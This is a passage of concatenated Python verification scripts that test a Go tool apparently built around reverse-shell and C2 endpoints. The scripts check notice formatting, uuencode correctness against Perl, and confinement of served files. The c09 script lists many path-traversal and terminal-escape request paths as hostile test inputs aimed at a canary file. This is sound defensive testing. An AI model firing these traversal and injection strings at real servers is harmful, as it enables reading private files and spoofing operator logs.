               "widths, indexes and URL escapes; each notice must contain the quoted ID verbatim and no '%!' artefact",
               [{"ids": cases[0]["ids"]}])


def hsrv_stream(run):
    ok, binp, log = vlib.build_overlay_test(run.rundir, "internal/hsrv", go="go")
    if not ok:
        run.oblige("hsrv harness builds against /repo", False, log)
        return
    H = lambda s: (s if isinstance(s, bytes) else s.encode()).hex()
    acts, expect, hostile_of = [], [], []
    for h in HOSTILE:
        hostile_of += [h.decode()] * 6
        hs = h.decode()
        esc = hs.replace("%", "%25").replace(" ", "%20")
        # file request: path and query as sent (valid escapes only)
        acts.append({"a": "raw", "first_byte_ms": 15000, "req": H("GET /f%s?x=%s HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n" % (esc, esc))})
        expect.append(["/f%s?x=%s" % (esc, esc)])
        # script: c2 parameter decoded
        acts.append({"a": "raw", "first_byte_ms": 15000, "req": H("GET /c?c2=%s HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n" % esc)})
        expect.append(["URL:" + hs])
        # c2 header
        acts.append({"a": "direct", "target": "/c", "host": "h.example", "headers": {"c2": hs}, "sni": ""})
        expect.append(["URL:" + hs])
        # Host that cannot be punycoded / client address with a zone
        acts.append({"a": "direct", "target": "/c", "host": "bad_%s_ÿ.example" % hs, "remote": "[fe80::1%%%s]:4444" % "eth0", "sni": ""})
        expect.append(["[fe80::1%eth0] "])
        # Host with a label that is not valid punycode: the error names the Host
        acts.append({"a": "direct", "target": "/c", "host": "xn--%s.example.com" % hs, "sni": ""})
        expect.append(["?punycoding xn--%s.example.com" % hs])
        acts.append({"a": "direct", "target": "/nofile" + esc, "host": "h", "remote": "[fe80::%s%%eth1]:1" % "2", "sni": ""})
        expect.append(["[fe80::2%eth1] ", "/nofile" + esc])
    cases = [{"i": 0, "cfg": {"fdir": "dir", "tree": [{"p": "a.txt", "c": H("A")}]}, "acts": acts},
             {"i": 1, "cfg": {"fdir": "dir", "tmpl": H("{{.Nope}}"), "tree": []}, "acts": acts[1::6][:6]}]
    # the served directory has disappeared: whatever else goes wrong with a file request, the notice about it still shows path and query as sent
    gone_acts = [{"a": "rmroot"}] + [a for a in acts[0::6]]
    cases.append({"i": 2, "cfg": {"fdir": "dir", "tree": [{"p": "a.txt", "c": H("A")}]}, "acts": gone_acts})
    res, err = vlib.run_overlay_test(binp, "TestVerifHsrv", cases, run.rundir, tag="c10hsrv", env=dict(os.environ, VERIF_TMP=run.rundir))
    bad, n = [], 0
    if res and len(res) > 2:
        for a, ex, act in zip((res[2].get("acts") or [])[1:], expect[0::6], gone_acts[1:]):
            notes = [bytes.fromhex(l["line"]).decode(errors="replace") for l in a.get("och") or [] if not l.get("plain")]
            n += len(notes)
            if not any(ex[0] in t for t in notes):
                bad.append({"action": act, "served_directory": "removed before the request", "notices": notes, "expected_fragment": ex[0]})
    if res:
        for a, ex, act, hs in zip(res[0].get("acts") or [], expect, acts, hostile_of):
            notes = [bytes.fromhex(l["line"]).decode(errors="replace") for l in a.get("och") or [] if not l.get("plain")]
            n += len(notes)
            sent = json.dumps(act)
            for frag in ex:
                if frag.startswith("?"):            # conditional: only when the notice is about that step at all
                    frag = frag[1:]
                    if not any(frag.split(" ")[0] in t for t in notes):
                        continue
                if not any(frag in t for t in notes):
                    bad.append({"action": act, "notices": notes, "expected_fragment": frag})
            for t in notes:
                if "%!" in t.replace(hs, "") :
                    bad.append({"action": act, "notices": notes, "artefact": t})
        for a in (res[1].get("acts") if len(res) > 1 else []) or []:
            n += len(a.get("och") or [])
            for l in a.get("och") or []:
                t = bytes.fromhex(l["line"]).decode(errors="replace")
                if "%!" in t:
                    bad.append({"notices": [t], "artefact": t})
    for b in bad[:1]:
        run.violation("hsrv-notice-format", "an operator notice about a request does not show the client's text verbatim (formatter artefacts or text missing)",
                      {"stream": "hsrv-requests", "input": b.get("action"), "detail": b})
    run.oblige("correspondence hsrv notices: %d notices (file requests, sent scripts, callback-URL errors, template errors; zoned IPv6 client "
               "addresses) show path, query, c2 value and client address verbatim" % n, not err and not bad and n > 50, json.dumps(bad[:3])[:3000] + str(err))
    run.stream("hsrv-requests", len(acts), len(acts), "requests whose path, query, c2 parameter/header, Host and client address contain '%' followed by "
               "every verb/flag/width/index form and URL escapes, against the real mux and handlers (raw TLS requests and direct handler calls)",
               [acts[0], acts[3]])


def terminal_stream(run):
    """The last hop: finished notices full of format verbs through the real Shell; the terminal must show each verbatim."""
    ok, binp, log = vlib.build_overlay_test(run.rundir, "lib/opshell")
    if not ok:
        run.oblige("opshell harness builds against /repo", False, log)
        return
    notices = ['[10.0.0.1] File requested: /f%s?x=%s' % (h.decode(), h.decode()) for h in HOSTILE] + \
              ['[fe80::1%%eth0] Rejected output connection with ID "%s", expected "%s"' % (h.decode(), g.decode()) for h, g in zip(HOSTILE, HOSTILE[3:] + HOSTILE[:3])] + \
              ['[h] Error determining callback URL: punycoding xn--%s.example: idna: invalid label "%s"' % (h.decode(), h.decode()) for h in HOSTILE]
    cases = [{"i": k, "chunks": [], "status": [n.encode().hex()]} for k, n in enumerate(notices)]
    # Ctrl+J shows the operator what Ctrl+I would send: the payload is data too (shell functions are full of percent signs)
    payloads = ["pf() { printf '%s\\n' \"$1\"; date +%Y-%m-%d; echo ${1%.tar.gz} 100% %[1]q %!; }\n", "%d %v %x %%", "no percent at all\n"] + [h.decode() for h in HOSTILE[:6]]
    for pl in payloads:
        notices.append(pl)
        cases.append({"i": len(cases), "chunks": [], "status": [], "ctrl_j": pl.encode().hex()})
    inf, outf = os.path.join(run.rundir, "c10term.in"), os.path.join(run.rundir, "c10term.out")
    with open(inf, "w") as f:
        for c in cases:
            f.write(json.dumps(c) + "\n")
    env = dict(os.environ, VERIF_CASES=inf, VERIF_OUT=outf, VERIF_TMP=run.rundir)
    rc, out = vlib.run_under_pty([binp, "-test.run", "^TestVerifPlain$", "-test.count=1", "-test.timeout", "300s"], env, run.rundir, timeout=400)
    res = [json.loads(l) for l in open(outf)] if os.path.exists(outf) else []
    bad = []
    for n, r in zip(notices, res):
        shown = bytes.fromhex(r.get("shown", "")).decode(errors="replace").replace("\r\n", "\n")
        if n not in shown:
            bad.append({"notice_on_the_operator_channel": n, "terminal_shows": shown[-300:]})
    for b in bad[:1]:
        run.violation("terminal-notice-format", "a notice is not shown verbatim on the terminal (lib/opshell re-interprets the finished line as a format)",
                      {"stream": "terminal-notices", "input": {"notice": b["notice_on_the_operator_channel"]}, "detail": b})
    run.oblige("correspondence terminal: %d finished notices containing format verbs are written to the terminal verbatim by the real Shell" % len(notices),
               rc == 0 and len(res) == len(cases) and not bad, json.dumps(bad[:3])[:2000] + out[-500:].decode(errors="replace"))
    run.stream("terminal-notices", len(cases), len(cases), "finished notices (file request, rejected connection, callback-URL error) carrying each hostile "
               "string, sent as status lines to the real opshell Shell (pty child), terminal output captured", [{"notice": notices[0]}])


def check(run):
    vlib.static_obligations(run)
    bad = translator_obligation(run)
    broker_stream(run)
    hsrv_stream(run)
    terminal_stream(run)
    run.assumptions += ["fmt.Sprintf with a constant format of plain verbs behaves as Lib/Fmt.render (Go standard library; validated by the notice streams)",
                        "%q's quoting is strconv.Quote (not modelled: the operand is taken as already rendered)",
                        "the translator (go/types based, ~250 lines) reports the call sites of the tree faithfully"]
    run.trusted += ["translator/fmtgraph", "harness/overlay/iobroker", "harness/overlay/hsrv", "props/c10.py"]


def replay(run, path):
    body = json.load(open(path))
    print(json.dumps(body.get("case") or body.get("broken"), indent=1)[:4000])
    print("re-run: bin/check C10 --tier quick (the notice streams are deterministic)")
    return 1
