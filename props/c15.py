"""C15 - uuencode: Perl-compatible, round-trips, decoding total and pure."""
import json, os, subprocess
import vlib

IMPORTS = "From CRS Require Import Lib.Bytes Model.UU Judge.Common Judge.C15."


def gen_sources(rng, tier):
    """Structured, mostly-valid sources."""
    srcs = []
    top = 300 if tier == "quick" else 1200
    for n in range(0, top + 1):                      # every length (line fills, mod 3, mod 45)
        srcs.append(bytes(rng.randrange(256) for _ in range(n)))
    for b in range(256):                             # every byte value in every group position
        for pos in range(3):
            g = [rng.randrange(256) for _ in range(3)]
            g[pos] = b
            srcs.append(bytes(g))
    for v in (0, 0x20, 0x60, 0xff, 0x27, 0x5c):      # runs that hit the edge characters
        for n in (1, 2, 3, 44, 45, 46, 90, 91):
            srcs.append(bytes([v]) * n)
    nrand = 600 if tier == "quick" else 6000
    for _ in range(nrand):
        n = rng.choice([rng.randrange(0, 50), rng.randrange(0, 200), rng.randrange(0, 2000)])
        kind = rng.randrange(4)
        if kind == 0:
            s = bytes(rng.randrange(256) for _ in range(n))
        elif kind == 1:
            s = bytes(rng.choice(b"abc \n\t{}'\\`") for _ in range(n))
        elif kind == 2:
            s = bytes(rng.choice([0, 0, 0, 255, 64, 3]) for _ in range(n))
        else:
            s = (b"#!/usr/bin/perl\nprint 'x';\n" * (n // 20 + 1))[:n]
        srcs.append(s)
    for n in ([4096, 65536] if tier == "quick" else [4096, 65535, 65536, 262144, 1048576]):
        srcs.append(bytes((i * 7 + 3) % 256 for i in range(n)))
    return srcs


def py_encode(src):
    """Reference encoder used only to build decode inputs (not an oracle)."""
    out = bytearray()
    for i in range(0, len(src), 45):
        line = src[i:i + 45]
        out.append(32 + len(line))
        for j in range(0, len(line), 3):
            c = line[j:j + 3] + b"\0\0"
            vals = [c[0] >> 2, ((c[0] << 4) | (c[1] >> 4)) & 63, ((c[1] << 2) | (c[2] >> 6)) & 63, c[2] & 63]
            out += bytes(96 if v == 0 else v + 32 for v in vals)
        out.append(10)
    return bytes(out)


def gen_malformed(rng, tier):
    """Arbitrary / invalid encoded text."""
    texts = [b"", b"\n", b"\r", b"\r\n", b"`", b"`\n`\r\n\n", b" ", b"!", b"\n\n\n", b"M", b"\x00",
             b"$0V%T\"@``\n", b"$0v%T\"@``\n", b"(:VET=&5N<PH`ABCD\n"]
    for lb in range(256):                           # every length byte, with matching / mismatching data
        want = ((max(lb - 32, 0) + 2) // 3) * 4 if lb != 96 else 0
        for dl in {want, max(want - 4, 0), want + 4, want + 1, 0, 4}:
            data = bytes(rng.randrange(32, 97) for _ in range(dl))
            texts.append(bytes([lb]) + data + b"\n")
    base = py_encode(bytes(rng.randrange(256) for _ in range(100)))
    for pos in range(0, len(base)):                 # off-alphabet byte at every position
        for v in (0, 10, 13, 31, 97, 127, 255):
            t = bytearray(base)
            t[pos] = v
            texts.append(bytes(t))
    for cut in range(len(base)):                    # truncated
        texts.append(base[:cut])
    n = 400 if tier == "quick" else 5000
    for _ in range(n):
        e = bytearray(py_encode(bytes(rng.randrange(256) for _ in range(rng.randrange(0, 150)))))
        for _ in range(rng.randrange(0, 4)):
            k = rng.randrange(5)
            p = rng.randrange(len(e) + 1)
            if k == 0 and e:
                e[p % len(e)] = rng.randrange(256)
            elif k == 1:
                e[p:p] = bytes([rng.choice([10, 13, 32, 96, rng.randrange(256)])])
            elif k == 2 and e:
                del e[p % len(e)]
            elif k == 3:
                e = e.replace(b"\n", b"\r\n")
            else:
                e[p:p] = b"\n\n"
        texts.append(bytes(e))
    for _ in range(n // 2):
        texts.append(bytes(rng.randrange(256) for _ in range(rng.randrange(0, 80))))
    return texts


def case_term(inp, res):
    if res["r"] == "ok":
        r = "(IOk %s)" % vlib.coq_str(bytes.fromhex(res["out"]))
    elif res["r"] == "err":
        r = "(IErr %d %d %d (%d)%%Z (%d)%%Z)" % (res.get("line", 0), res.get("off", 0), res.get("cls", 9),
                                                 res.get("p1", 0), res.get("p2", 0))
    else:
        r = "IPanic"
    exp = "None" if inp.get("expect") is None else "(Some %s)" % vlib.coq_str(bytes.fromhex(inp["expect"]))
    return "mk %d %s %s %s %s %d %s" % (
        0 if inp["op"] == "enc" else 1, vlib.coq_str(bytes.fromhex(inp["dst"])),
        vlib.coq_str(bytes.fromhex(inp["src"])), r, "true" if res.get("pure") else "false",
        res.get("maxlen", 0), exp)


CLAUSES = {1: "AppendEncode modified its source, the existing destination contents or memory outside its result",
           2: "AppendEncode result does not start with dst", 3: "encoder output does not decode (model decoder) to the source",
           4: "encoder output differs from Perl pack('u') (specification)", 5: "MaxEncodedLen under-estimates",
           6: "AppendEncode panicked", 7: "AppendEncode error",
           21: "AppendDecode modified its source, the existing destination contents or memory outside its result",
           22: "AppendDecode panicked", 23: "AppendDecode result does not extend dst or exceeds MaxDecodedLen",
           24: "DecodeError does not locate the problem (line/offset outside the input)",
           25: "decoding an encoding did not return dst ++ original",
           10: "model/implementation differ on AppendEncode output", 11: "model/implementation differ on MaxEncodedLen",
           30: "model/implementation differ on AppendDecode result", 31: "model/implementation differ on MaxDecodedLen"}


def build_inputs(run):
    rng = run.rng
    inputs = []
    dsts = [b"", b"", b"", b"begin 644 x\n", b" ` \x00\xff"]
    for s in gen_sources(rng, run.tier):
        d = rng.choice(dsts)
        lay = rng.randrange(8)
        if lay // 2 == 0:
            d = b""
        inputs.append({"op": "enc", "dst": d.hex(), "src": s.hex(), "layout": lay, "fam": "enc"})
    nenc = len(inputs)
    for t in gen_malformed(rng, run.tier):
        d = rng.choice(dsts)
        inputs.append({"op": "dec", "dst": d.hex(), "src": t.hex(), "layout": rng.randrange(8), "fam": "dec-malformed"})
    for i, x in enumerate(inputs):
        x["i"] = i
    return inputs, nenc


def perl_layer(run, enc_cases):
    """Real perl on a sample: pack('u') equals the implementation's output and
    unpack('u') of it returns the source."""
    sample = enc_cases[:: max(1, len(enc_cases) // (150 if run.tier == "quick" else 1500))]
    script = r'''
use strict; binmode STDOUT; my $bad = 0;
while (my $l = <STDIN>) { chomp $l; my ($i, $s, $e) = split / /, $l, -1;
  my $src = pack("H*", $s); my $enc = pack("H*", $e);
  if (pack("u", $src) ne $enc) { print "P $i\n"; next }
  if (unpack("u", $enc) ne $src) { print "U $i\n"; next } }
print "done\n";
'''
    inp = "".join("%d %s %s\n" % (k, i["src"], bytes.fromhex(r["out"])[len(bytes.fromhex(i["dst"])):].hex())
                  for k, (i, r) in enumerate(sample) if r["r"] == "ok")
    p = subprocess.run(["perl", "-e", script], input=inp.encode(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=300)
    out = p.stdout.decode().split("\n")
    ok = "done" in out
    bad = [l for l in out if l[:2] in ("P ", "U ")]
    for l in bad[:5]:
        k = int(l[2:])
        i, r = sample[k]
        run.violation("perl-" + l[0], "real perl %s disagrees with AppendEncode output" % ("pack" if l[0] == "P" else "unpack"),
                      {"input": i, "impl": r})
    run.oblige("correspondence perl-5 pack/unpack('u') on %d encoder outputs" % len(sample), ok and not bad,
               (p.stderr.decode() + "\n".join(bad))[:2000])
    run.cov["perl_cases"] = len(sample)


def check(run):
    vlib.static_obligations(run)
    ok, drv, log = vlib.build_drv(run.rundir)
    run.checker_cmds.append("go build -overlay (harness/drv inside /repo module) && drv uu")
    if not ok:
        run.oblige("harness builds against /repo", False, log)
        return
    inputs, nenc = build_inputs(run)
    res, err = vlib.run_drv(drv, "uu", inputs, timeout=900)
    if err or res is None or len(res) != len(inputs):
        run.oblige("harness ran all uu cases", False, str(err) + " got %s results" % (len(res) if res else 0))
        return
    # second stream: decode what the implementation itself encoded (round trip through the real code)
    rt = []
    for i, r in zip(inputs[:nenc], res[:nenc]):
        if r["r"] == "ok":
            d = bytes.fromhex(i["dst"])
            enc = bytes.fromhex(r["out"])[len(d):]
            rt.append({"op": "dec", "dst": i["dst"], "src": enc.hex(), "layout": run.rng.randrange(8),
                       "expect": i["src"], "fam": "dec-roundtrip"})
            if run.rng.randrange(4) == 0:               # CR-LF and blank-line variants decode identically
                rt.append({"op": "dec", "dst": i["dst"], "src": enc.replace(b"\n", b"\r\n\n").hex(),
                           "layout": run.rng.randrange(8), "expect": i["src"], "fam": "dec-roundtrip-crlf"})
    for k, x in enumerate(rt):
        x["i"] = len(inputs) + k
    res2, err = vlib.run_drv(drv, "uu", rt, timeout=900)
    if err or res2 is None or len(res2) != len(rt):
        run.oblige("harness ran all uu round-trip cases", False, str(err))
        return
    inputs += rt
    res += res2
    terms = [case_term(i, r) for i, r in zip(inputs, res)]
    flagged, tags, errors, files = vlib.coq_eval(run.rundir, "cases", IMPORTS, "case", terms, "judge_all",
                                                 shard=400 if run.tier == "quick" else 800)
    run.checker_cmds.append("coqc cases_k.v (vm_compute of Judge.C15.judge_all over the implementation's results)")
    run.oblige("case evaluation inside Coq completed", not errors, "\n".join(errors))
    mism = [f for f in flagged if f[1] == 1]
    viol = [f for f in flagged if f[1] == 2]
    for idx, sev, cl in viol[:20]:
        i, r = inputs[idx], res[idx]
        small = {k: (v if len(str(v)) < 4000 else str(v)[:4000] + "...") for k, v in i.items()}
        run.violation("uu-clause-%d" % cl, CLAUSES.get(cl, "clause %d" % cl),
                      {"input": small, "impl": {k: (v if len(str(v)) < 4000 else str(v)[:4000] + "...") for k, v in r.items()}, "clause": cl})
    run.oblige("correspondence uu model = lib/uu on %d cases" % len(inputs), not mism and not viol,
               json.dumps([{"clause": CLAUSES.get(c, c), "input": inputs[i], "impl": res[i]} for i, s, c in (mism + viol)[:5]])[:6000])
    # coverage
    seen, nontriv, dist = set(), 0, {}
    for i, t in zip(inputs, tags):
        key = (i["op"], i["src"], i["dst"])
        dist[str(t)] = dist.get(str(t), 0) + 1
        if key in seen:
            continue
        seen.add(key)
        if t not in (0, 10, None):
            nontriv += 1
    fam = {}
    for i in inputs:
        fam[i["fam"]] = fam.get(i["fam"], 0) + 1
    run.stream("uu", len(inputs), nontriv,
               "AppendEncode on every length 0..N, every byte value in every group position, edge runs, random and "
               "structured sources, large sources; AppendDecode on the implementation's own encodings (plain and CR-LF/blank-line "
               "variants) and on malformed text (every length byte x data lengths, off-alphabet bytes at every position, truncations, "
               "random mutations); all in canary arenas with 8 capacity layouts. Non-trivial = distinct (op,src,dst) whose model "
               "branch tag is not 'empty source' / 'decodes to nothing'",
               [{"input": {k: (v if len(str(v)) < 200 else str(v)[:200] + "...") for k, v in inputs[j].items()},
                 "impl": {k: (v if len(str(v)) < 200 else str(v)[:200] + "...") for k, v in res[j].items()}} for j in (5, nenc + 7, len(inputs) - 3)],
               {"model_branch_tags": dist, "families": fam})
    perl_layer(run, list(zip(inputs[:nenc], res[:nenc])))
    run.assumptions += ["Go slice/append semantics are not modelled: purity is observed through canary arenas, not proved",
                        "perl 5.36 on this image stands for 'Perl'", "the Go harness reports results faithfully"]
    run.trusted += ["harness/drv/uu.go (runs lib/uu in canary arenas)", "props/c15.py generators",
                    "model of uu.go is hand-written (coq/Model/UU.v); tie = this correspondence"]


def replay(run, path):
    body = json.load(open(path))
    case = body["case"]
    ok, drv, log = vlib.build_drv(run.rundir)
    if not ok:
        print("harness does not build:\n" + log)
        return 2
    i = dict(case["input"]); i["i"] = 0
    res, err = vlib.run_drv(drv, "uu", [i])
    print("input:", json.dumps(i)[:2000])
    print("implementation now:", json.dumps(res)[:2000])
    vlib.build_coq()
    flagged, tags, errors, _ = vlib.coq_eval(run.rundir, "replay", IMPORTS, "case", [case_term(i, res[0])], "judge_all")
    print("judge:", [(s, CLAUSES.get(c, c)) for _, s, c in flagged] or "agrees, monitor holds", errors)
    import shutil; shutil.rmtree(run.rundir, ignore_errors=True)
    return 1 if flagged else 0
