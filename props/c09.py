"""C09 - static files are confined to the chosen tree and never shadow shell endpoints."""
import hashlib, json, os, re, urllib.parse
import vlib

IMPORTS = "From CRS Require Import Lib.Bytes Model.Files Judge.Common Judge.C09."
CLAUSES = {1: "a response carried the content of a file OUTSIDE the served tree (canary)",
           2: "a response carried the content of a tree file other than the one the cleaned request path names",
           3: "a request to a shell endpoint (/c, /i/{id}, /o/{id}, /io) was answered with file content / by the file handler",
           4: "with -serve-files-from unset a non-shell path was not answered 404",
           5: "single-file mode returned something other than the configured file",
           6: "file content was served without a 'file requested' notice to the operator that names the request target as sent",
           21: "net/http's mux redirected (301) a path Model/Files.mux_redirects does not, or the reverse"}
H = lambda s: (s if isinstance(s, bytes) else s.encode()).hex()
TREE = ["a.txt", "sub/b.txt", "c", "io", "i/x", "o/x", "index.html", "sub/index.html", "sp ace.txt", "dot.file", "sub/deep/d.txt", "%2e%2e/enc.txt", "i/y/z",
        "robots.txt", "favicon.ico"]
OUTSIDE = ["canary.txt", "root-secret/s.txt", "root2/index.html"]
HOSTILE = ["/a.txt%0D%1B%5B2K", "/x%0A[10.0.0.1]%20File%20requested:%20/favicon.ico", "/sub/b.txt%1B%5B1A%1B%5B2K", "/../canary.txt", "/%2e%2e/canary.txt", "/%252e%252e/canary.txt", "/..%2fcanary.txt", "/..%252fcanary.txt", "//canary.txt",
           "/sub/../../canary.txt", "/sub/%2e%2e/%2e%2e/canary.txt", "/a.txt%00", "/a.txt/", "/./a.txt", "/sub//b.txt", "/..\\canary.txt",
           "/%5c..%5ccanary.txt", "/../root-secret/s.txt", "/%2e%2e/root-secret/s.txt", "/..%2froot-secret%2fs.txt", "/root/../../canary.txt",
           "/sub/deep/../../../canary.txt", "/%2e/a.txt", "/sub/%2e%2e/a.txt", "/.%2e/canary.txt", "/%2e./canary.txt", "/..;/canary.txt",
           "/../root2/", "/%2e%2e/root2/index.html", "/sub/deep/..%2f..%2f..%2fcanary.txt", "/a.txt?x=../canary.txt", "/%2e%2e%2fcanary.txt",
           "/" + "A" * 5000, "/" + "../" * 40 + "canary.txt", "/" + "%2e%2e/" * 40 + "canary.txt", "/c/", "/c/../c", "/io/../a.txt", "/i/", "/i/x/", "/i/y/z",
           "/%63", "/i%2fx", "/I/x", "/C"]


def decode_path(target):
    t = target
    m = re.match(r"^[a-z]+://[^/]*", t)
    if m:
        t = t[m.end():] or "/"
    t = t.split("?", 1)[0]
    return t.encode("latin-1"), urllib.parse.unquote_to_bytes(t)


def names_request(line, dp):
    """the operator's report: free of raw control bytes, and its (escaped) path decodes to the decoded path of the request"""
    if b"File requested: " not in line or any(c < 0x20 or c == 0x7f for c in line):
        return False
    shown = line.split(b"File requested: ", 1)[1].strip()
    shown = re.sub(rb"^[a-z]+://[^/]*", b"", shown).split(b"?", 1)[0]
    return urllib.parse.unquote_to_bytes(shown) == dp


def make_cases(rng, tier):
    tags, tree, outside = {}, [], []
    for k, p in enumerate(TREE):
        tags["TAG%03d:" % k] = ("in", "/" + p)
        tree.append({"p": p, "c": H("TAG%03d:%s" % (k, p))})
    for k, p in enumerate(OUTSIDE):
        tags["TAG9%02d:" % k] = ("out", p)
        outside.append({"p": p, "c": H("TAG9%02d:%s" % (k, p))})
    reqs = []
    for p in TREE:
        reqs.append(("GET", "/" + urllib.parse.quote(p)))
    reqs += [("GET", h) for h in HOSTILE]
    for m in ("GET", "POST", "PUT", "HEAD"):
        reqs += [(m, "/c"), (m, "/o/x"), (m, "/io"), (m, "/io/"), (m, "/c?c2=x")]
    reqs += [("POST", "/i/x"), ("PUT", "/i/x"), ("GET", "http://h.example/../canary.txt"), ("GET", "http://h.example/a.txt")]
    # paths which web servers and libraries like to answer themselves (crawler files, health and debug endpoints): here they are ordinary file paths
    reqs += [("GET", t) for t in ("/robots%2Etxt", "/%72obots.txt?x=1", "/sitemap.xml", "/.well-known/security.txt", "/healthz", "/metrics", "/debug/pprof/",
                                  "/debug/vars", "/favicon.ico?v=2", "/index.htm", "/status")]
    # the same target several times in a row (a client retrying): every request is one more request
    reqs += [("GET", "/a.txt")] * 3 + [("GET", "/sub/b.txt?again=1")] * 2 + [("GET", "/nope.txt")] * 2
    n = 60 if tier == "quick" else 3000
    frags = ["..", "%2e%2e", "%252e%252e", ".", "sub", "deep", "a.txt", "canary.txt", "root-secret", "", "%2f", "%5c", "c", "i", "x", "%00", "..%2f", "%2e"]
    for _ in range(n):
        reqs.append(("GET", "/" + "/".join(rng.choice(frags) for _ in range(rng.randrange(1, 7)))))
    # clients that have already gone away when the handler runs: a half-closing TLS client (request, then close_notify), and requests whose
    # context is cancelled before the handler starts; the file is still served, so it must still be reported
    hows = ["raw"] * len(reqs)
    for k in range(8 if tier == "quick" else 40):
        reqs.append(("GET", "/" + urllib.parse.quote(TREE[k % 2]))); hows.append("halfclose")
    for k in range(24 if tier == "quick" else 120):
        reqs.append(("GET", "/" + urllib.parse.quote(TREE[k % 2]))); hows.append("cancelled")
    cases = []
    for mode in ("dir", "none", "file", "filelink"):
        acts = []
        for (m, t), how in zip(reqs, hows):
            if how == "cancelled":
                acts.append({"a": "direct", "method": m, "target": t, "host": "h.example", "cancelled": True, "quiet_ms": 15})
            else:
                # requests which do not go to a shell endpoint are answered: patience for the first byte (a stalled machine is not a silent server)
                shellish = re.match(r"^(https?://[^/]*)?/+(i|o|io|I|%69|%6f|i%2f|o%2f)([/?%]|$)", t) is not None
                acts.append({"a": "raw", "req": H("%s %s HTTP/1.1\r\nHost: h.example\r\nConnection: close\r\nContent-Length: 0\r\n\r\n" % (m, t)),
                             "quiet_ms": 15, "halfclose": how == "halfclose", "first_byte_ms": 1000 if shellish else 12000})
        cfg = {"fdir": "file" if mode == "filelink" else mode, "tree": tree if mode != "none" else [], "outside": outside}
        if mode in ("file", "filelink"):
            cfg["single"] = "a.txt"
            cfg["single_symlink"] = mode == "filelink"     # -serve-files-from names the file through a symbolic link
        cases.append({"i": len(cases), "cfg": cfg, "acts": acts, "_reqs": reqs, "_mode": mode})
    return cases, tags


def terms(case, res, tags):
    out, inputs = [], []
    mode = {"dir": "FDir", "none": "FNone", "file": "FSingle", "filelink": "FSingle"}[case["_mode"]]
    for (m, t), a in zip(case["_reqs"], res.get("acts") or []):
        ep, dp = decode_path(t)
        body = bytes.fromhex(a.get("body", "") or "") + bytes.fromhex(a.get("resp", "") or "")
        served, canary, single = "None", False, False
        for tg, (where, p) in tags.items():
            if tg.encode() in body:
                if where == "out":
                    canary = True
                elif case["_mode"] in ("file", "filelink") and p == "/a.txt":
                    single = True
                else:
                    served = "(Some %s)" % vlib.coq_str(p.encode())
        # the report names the request as the client sent it (escaped form: no raw control bytes reach the operator's terminal)
        noticed = any(names_request(bytes.fromhex(l["line"]), dp) for l in a.get("och") or [])
        segs = "[%s]" % "; ".join(vlib.coq_str(urllib.parse.unquote_to_bytes(x)) for x in ep.split(b"/")[1:])
        out.append("mk %s %s %s %s %s %s %s %d %s %s" % (mode, vlib.coq_str(ep), segs, vlib.coq_str(dp), served, str(canary).lower(), str(single).lower(),
                                                     a.get("status") or 0, str(noticed).lower(), str(noticed).lower()))
        inputs.append({"mode": case["_mode"], "method": m, "target": t, "status": a.get("status"), "body": body[:80].hex(), "noticed": noticed})
    return out, inputs


def big_content(n):
    return bytes((i * 31 + i // 251 + 7) % 251 for i in range(n))


def concurrent_downloads(run, binp):
    """Overlapping downloads of one large file, in single-file and in directory mode: every client gets exactly the file."""
    n = 3 << 20
    want = hashlib.sha256(big_content(n)).hexdigest()
    req = H("GET /big.bin HTTP/1.1\r\nHost: h.example\r\nConnection: close\r\n\r\n")
    cases = []
    for mode in ("file", "dir"):
        cfg = {"fdir": mode, "tree": [{"p": "big.bin", "gen": n}, {"p": "a.txt", "c": H("A")}], "outside": []}
        if mode == "file":
            cfg["single"] = "big.bin"
        cases.append({"i": len(cases), "cfg": cfg, "acts": [{"a": "raw", "req": req, "quiet_ms": 10},
                                                           {"a": "par", "workers": 12 if run.tier == "quick" else 32, "rounds": 2, "reqs": [req], "quiet_ms": 50}]})
    res, err = vlib.run_overlay_test(binp, "TestVerifHsrv", cases, run.rundir, tag="c09par", env=dict(os.environ, VERIF_TMP=run.rundir), timeout=600)
    bad, total = [], 0
    for c, r in zip(cases, res or []):
        for one in ((r.get("acts") or [{}, {}])[1].get("par") or []):
            total += 1
            if one.get("status") != 200 or one.get("len") != n or one.get("sha256") != want:
                bad.append({"mode": c["cfg"]["fdir"], "status": one.get("status"), "bytes_received": one.get("len"), "expected_bytes": n,
                            "content_matches": one.get("sha256") == want, "error": one.get("error") or one.get("body_error")})
    for b in bad[:1]:
        run.violation("concurrent-download-corrupted", "overlapping downloads of the served file did not each return exactly that file",
                      {"stream": "concurrent", "input": {"mode": b["mode"], "file_bytes": n, "clients_at_once": cases[0]["acts"][1]["workers"]}, "detail": bad[:4]})
    run.oblige("concurrent downloads: %d overlapping GETs of a %d-byte file (single-file and directory mode) each return exactly the file" % (total, n),
               not err and not bad and total >= 8, json.dumps(bad[:3]) + str(err))
    run.stream("concurrent", total, total, "12 (thorough: 32) clients at once, two rounds each, download a 3 MiB file over real TLS in single-file and in "
               "directory mode; length and SHA-256 of every body are compared with the file's", [{"file_bytes": n}])


def routes_obligation(run):
    """the mux registrations of the working tree against the routing table the models assume"""
    okr, gen, rlog = vlib.run_translator(run, "routes")
    run.checker_cmds.append("translator/routes (go/parser over /repo/internal/hsrv) -> GenRoutes.v ; coqc GenDepC09.v (routes_match GenRoutes.routes = true)")
    if not okr:
        run.oblige("translator routes ran on /repo's working tree", False, rlog[-2000:])
        return
    open(os.path.join(run.rundir, "GenRoutes.v"), "w").write(gen)
    open(os.path.join(run.rundir, "GenDepC09.v"), "w").write(
        "From Coq Require Import List String.\nFrom CRS Require Import Lib.Bytes Model.Routes Props.C09.\nFrom Gen Require Import GenRoutes.\n"
        "Theorem c09_tree_routes : routes_not_understood = 0%nat /\\ routes_match routes = true.\nProof. vm_compute. split; reflexivity. Qed.\n"
        "Print Assumptions c09_tree_routes.\n")
    rc1, o1, e1 = vlib.coqc("GenRoutes.v", run.rundir, extra_q=[(run.rundir, "Gen")])
    rc2, o2, e2 = vlib.coqc("GenDepC09.v", run.rundir, extra_q=[(run.rundir, "Gen")]) if rc1 == 0 else (1, "", "")
    run.oblige("per-run obligation c09_tree_routes: the patterns the working tree registers on its mux are exactly the routing table of Model/Routes "
               "(/i/{id}, /o/{id}, /io, /io/, /c, and / only when files are served) - the table c09_shell_paths_are_the_shell_routes is about",
